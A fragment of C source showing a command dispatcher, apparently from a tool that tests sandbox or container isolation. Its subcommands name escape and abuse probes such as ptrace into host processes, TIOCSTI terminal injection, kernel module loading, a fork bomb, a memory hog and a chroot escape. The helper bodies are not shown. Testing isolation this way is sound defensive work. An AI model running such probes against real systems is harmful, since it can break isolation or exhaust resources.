	if (!strcmp(a, "kallsyms"))
		return kallsyms();
	if (!strcmp(a, "list") && argc == 3)
		return list_dir(argv[2]);
	if (!strcmp(a, "mknod") && argc == 4)
		return mknod_block(strtoul(argv[2], NULL, 10), strtoul(argv[3], NULL, 10));
	if (!strcmp(a, "kexec_load"))
		return do_kexec_load();
	if (!strcmp(a, "kexec_file_load"))
		return do_kexec_file_load();
	if (!strcmp(a, "init_module"))
		return do_init_module();
	if (!strcmp(a, "finit_module"))
		return do_finit_module();
	if (!strcmp(a, "delete_module"))
		return do_delete_module();
	if (!strcmp(a, "open_by_handle_at"))
		return do_open_by_handle();
	if (!strcmp(a, "keyctl"))
		return do_keyctl();
	if (!strcmp(a, "swapon"))
		return do_swapon();
	if (!strcmp(a, "ioperm"))
		return do_ioperm();
	if (!strcmp(a, "acct"))
		return do_acct();
	if (!strcmp(a, "ptrace-host") && argc == 4)
		return ptrace_host(atoi(argv[2]), argv[3]);
	if (!strcmp(a, "ptrace-inside"))
		return ptrace_inside();
	if (!strcmp(a, "tiocsti"))
		return tiocsti();
	if (!strcmp(a, "fds"))
		return fds();
	if (!strcmp(a, "cwd"))
		return cwd();
	if (!strcmp(a, "exe") && argc == 4)
		return exe(strtoull(argv[2], NULL, 10), strtoull(argv[3], NULL, 10));
	if (!strcmp(a, "pids") && argc == 3)
		return pids(argv[2]);
	if (!strcmp(a, "netdevs"))
		return netdevs();
	if (!strcmp(a, "abstract") && argc == 3)
		return abstract(argv[2]);
	if (!strcmp(a, "dbus"))
		return dbus();
	if (!strcmp(a, "forkbomb") && argc == 3)
		return forkbomb(atoi(argv[2]));
	if (!strcmp(a, "memhog") && argc == 3)
		return memhog(atoi(argv[2]));
	if (!strcmp(a, "tmpfill"))
		return tmpfill();
	if (!strcmp(a, "chroot-escape") && argc >= 4)
		return chroot_escape(argv[2], argv + 3, argc - 3);
	return usage();
}
